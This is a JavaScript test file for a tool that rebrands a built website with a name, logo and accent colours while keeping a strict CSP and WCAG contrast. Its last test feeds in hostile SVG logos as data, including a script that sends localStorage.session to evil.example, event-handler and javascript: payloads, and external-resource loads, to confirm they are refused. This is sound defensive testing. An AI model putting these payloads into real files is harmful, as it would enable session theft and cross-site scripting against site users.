// A site's brand set on a built dist/ without a rebuild (scripts/
// configure-dist --name --logo --accent --accent-dark): on every page, in
// the header, the titles that are the site's name, the colours, and the
// CSP still allowing only what the pages hold; colours below WCAG AA
// contrast are refused with the reason, and nothing is written.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { contrast, parseColor } from '../../scripts/brand.mjs';
import { copyOfDist, configure, pages, refused as refusedBy } from './site.mjs';

const header = (html) => html.match(/<a [^>]*class="brand"[^>]*>([\s\S]*?)<\/a>/)?.[1];

test('contrast is WCAG 2\'s ratio', () => {
  assert.equal(contrast(parseColor('#000'), parseColor('#ffffff')).toFixed(1), '21.0');
  assert.equal(contrast(parseColor('#777777'), parseColor('#fff')).toFixed(2), '4.48');
  assert.equal(parseColor('red'), null);
});

test('a built site takes a name, a logo and accent colours on every page, the CSP kept strict', () => {
  const copy = copyOfDist();
  const logo = path.join(copy, '..', `acme-${process.pid}.svg`);
  fs.writeFileSync(logo, '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle cx="5" cy="5" r="5"/></svg>');
  configure(copy, '--name', 'Acme & Co', '--logo', logo, '--accent', '#0a7e5c', '--accent-dark', '#5fd3a8');
  const logos = fs.readdirSync(copy).filter((f) => /^brand-[0-9a-f]{16}\.svg$/.test(f));
  assert.equal(logos.length, 1, 'the logo, under a name that follows its content');
  for (const [file, html] of pages(copy)) {
    assert.match(html, /<meta name="altogic-site-name" content="Acme &amp; Co"/, file);
    assert.match(html, new RegExp(`<meta name="altogic-site-logo" content="/${logos[0]}"`), file);
    // The prerendered pages have the header; the shells have no markup.
    if (/<div id="app"[^>]*data-prerendered=/.test(html)) {
      assert.equal(header(html), `<img src="/${logos[0]}" alt="" class="brand-logo">Acme &amp; Co`, file);
    }
    assert.doesNotMatch(html, /Altogic Auth/, `${file}: the default name left`);
    const style = html.match(/<style id="brand">([\s\S]*?)<\/style>/)?.[1];
    assert.equal(style, ':root{--accent:#0a7e5c}@media (prefers-color-scheme:dark){:root{--accent:#5fd3a8}}', file);
    // After the stylesheet, so that it wins; allowed by its hash.
    assert.ok(html.indexOf('<style id="brand">') > html.indexOf('--accent-text'), `${file}: after the stylesheet`);
    const hash = crypto.createHash('sha256').update(style, 'utf8').digest('base64');
    const policy = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]*)"/)[1];
    assert.match(policy, new RegExp(`style-src 'self'( '[^']+')* 'sha256-${hash.replace(/[+/]/g, '\\$&')}'`), file);
    assert.doesNotMatch(policy, /unsafe-inline/, file);
  }
  assert.match(fs.readFileSync(path.join(copy, 'index.html'), 'utf8'), /<title>Acme &amp; Co<\/title>/);
  assert.match(fs.readFileSync(path.join(copy, 'profile/index.html'), 'utf8'), /<title>Acme &amp; Co<\/title>/);
  assert.match(fs.readFileSync(path.join(copy, 'login/index.html'), 'utf8'), /<title>Login<\/title>/);

  // Again, with another name only: the logo and colours stay, nothing doubles.
  configure(copy, '--name', 'Acme');
  for (const [file, html] of pages(copy).filter(([, html]) => /<div id="app"[^>]*data-prerendered=/.test(html))) {
    assert.equal(header(html), `<img src="/${logos[0]}" alt="" class="brand-logo">Acme`, file);
    assert.equal(html.match(/<style id="brand">/g)?.length, 1, file);
  }
  fs.rmSync(copy, { recursive: true });
  fs.rmSync(logo);
});

test('an accent with too little contrast, or not a colour, is refused with the reason and nothing changes', () => {
  const copy = copyOfDist();
  const before = pages(copy);
  const refused = (...args) => refusedBy(copy, ...args);
  // A light green: too pale on the light page.
  assert.match(refused('--accent', '#7fd8b0'), /--accent #7fd8b0: contrast 1\.\d\d:1 against the page \(#f6f7fb\); WCAG AA needs 4\.5:1/);
  // A dark blue for the dark scheme: too dark on the dark page.
  assert.match(refused('--accent-dark', '#1a237e'), /--accent-dark #1a237e: contrast 1\.\d\d:1 against the page \(#12141b\)/);
  // With a name that alone would be fine: nothing of it is written either.
  assert.match(refused('--name', 'X', '--accent', '#ffffff'), /--accent #ffffff: contrast 1\.\d\d:1 against the page/);
  assert.match(refused('--accent', 'green'), /--accent: a colour as #rgb or #rrggbb, not "green"/);
  assert.match(refused('--logo', 'acme.txt'), /--logo: an image file/);
  assert.deepEqual(pages(copy), before, 'nothing written');
  fs.rmSync(copy, { recursive: true });
});

test('a logo that runs script is refused: scripts, handlers, HTML inside, other files or addresses; nothing is written', () => {
  const copy = copyOfDist();
  const before = fs.readdirSync(copy, { recursive: true }).sort();
  const svg = (inner) => `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">${inner}</svg>`;
  const hostile = {
    script: svg('<script>fetch("//evil.example/?"+localStorage.session)</script>'),
    handler: svg('<circle r="5" onload="alert(1)"/>'),
    'handler, upper case': svg('<circle r="5" ONLOAD = "alert(1)"/>'),
    foreignObject: svg('<foreignObject><iframe src="//evil.example"/></foreignObject>'),
    'external image': svg('<image href="https://evil.example/track.png"/>'),
    'javascript link': svg('<a xlink:href="javascript:alert(1)"><circle r="5"/></a>'),
    'animated into a script address': svg('<set attributeName="href" to="javascript:alert(1)"/>'),
    'external style': svg('<style>@import url(https://evil.example/x.css)</style>'),
    'style url': svg('<rect style="fill:url(https://evil.example/x)"/>'),
    entities: `<!DOCTYPE svg [<!ENTITY x "&#60;script&#62;">]>${svg('&x;')}`,
  };
  for (const [what, text] of Object.entries(hostile)) {
    const file = path.join(os.tmpdir(), `hostile-${process.pid}.svg`);
    fs.writeFileSync(file, text);
    try {
      configure(copy, '--logo', file);
      assert.fail(`accepted: ${what}`);
    } catch (e) {
      assert.match(e.stderr ?? String(e), /--logo .*: .*a logo is a picture/, what);
    }
    fs.rmSync(file);
  }
  assert.deepEqual(fs.readdirSync(copy, { recursive: true }).sort(), before, 'nothing written');
  // A plain picture with local references is taken.
  const fine = path.join(os.tmpdir(), `fine-${process.pid}.svg`);
  fs.writeFileSync(fine, svg('<defs><linearGradient id="g"/></defs><rect fill="url(#g)" width="10" height="10"/><use href="#g"/>'));
  configure(copy, '--logo', fine);
  assert.equal(fs.readdirSync(copy).filter((f) => /^brand-[0-9a-f]{16}\.svg$/.test(f)).length, 1);
  fs.rmSync(fine);
  fs.rmSync(copy, { recursive: true });
});
